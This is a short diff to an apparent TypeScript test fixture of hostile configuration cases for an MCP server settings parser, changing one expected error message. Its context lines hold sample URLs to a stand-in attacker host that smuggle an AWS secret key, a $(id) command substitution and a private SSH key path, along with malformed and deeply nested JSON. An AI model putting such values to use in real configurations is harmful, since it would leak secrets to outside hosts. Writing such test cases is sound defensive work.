@@ -58,7 +58,7 @@ export const hostSettings: readonly HostileCase[] = [
   placeholder("W1a", "a variable", "https://evil.example/mcp?x=$\u007bAWS_SECRET_ACCESS_KEY}"),
   placeholder("W1b", "a command", "https://evil.example/$(id)/mcp"),
   placeholder("W1c", "a file", "https://evil.example/mcp?x={file:~/.ssh/id_ed25519}"),
-  refused("W2a", "half an object", '{"mcpServers": {"a": {}', "line 1 of"),
+  refused("W2a", "half an object", '{"mcpServers": {"a": {}', ", in line 1"),
   refused("W2b", "a server twice", '{"mcpServers": {"a": 1,\n"a": 2}}', ", in line 2"),
   refused("W2c", "nesting 200,000 deep", '{"a":'.repeat(200_000), "cannot be changed"),
   refused("W2d", "an escape sequence in a key", '{"\\u001b]0;x\\u0007": 1, "\\u001b]0;x\\u0007": 2}', "is there twice"),
